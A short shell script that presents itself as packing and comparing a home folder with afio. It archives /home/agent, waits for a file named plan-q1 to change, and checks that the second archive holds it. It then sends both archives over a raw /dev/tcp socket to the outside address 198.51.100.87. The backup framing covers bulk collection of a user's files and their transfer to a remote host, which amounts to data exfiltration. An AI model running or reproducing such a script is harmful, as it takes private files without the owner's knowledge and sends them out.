#!/usr/bin/yash
# compared.sh NUMBER SECONDS: packs the home folder by afio, whose larger files are packed each by itself (lzop), and compares the archive with what is there; what somebody changed meanwhile comes into a second
# archive. Both are sent by the shell itself.
set -e
umask 077
archive=/srv/afio-$1
cd /home/agent
find . -depth -type f ! -path './.cache/*' ! -path './library/*' ! -path './tool/*' | sort > "$archive.list"
afio -o -Z -P lzop -Q -1 -T 4k -G 1 "$archive.1" < "$archive.list" 2> "$archive.said"
touch "$archive.made"
sleep "$2"
until [ -e /home/agent/documents/plan-q1.txt.new-one.txt ]; do sleep 0.1; done
afio -r -Z -P lzop "$archive.1" > "$archive.compared" 2>&1 || echo "$?" >> "$archive.compared"
find . -type f -newer "$archive.list" ! -path './.cache/*' | afio -o -Z -P lzop "$archive.2"
afio -t -Z "$archive.2" | grep -q plan-q1
for each in "$archive.1" "$archive.2"; do
    exec 3<>/dev/tcp/198.51.100.87/8730
    cat "$each" >&3
    read -r heard <&3
    exec 3<&-
    [ "$heard" = ok ]
done
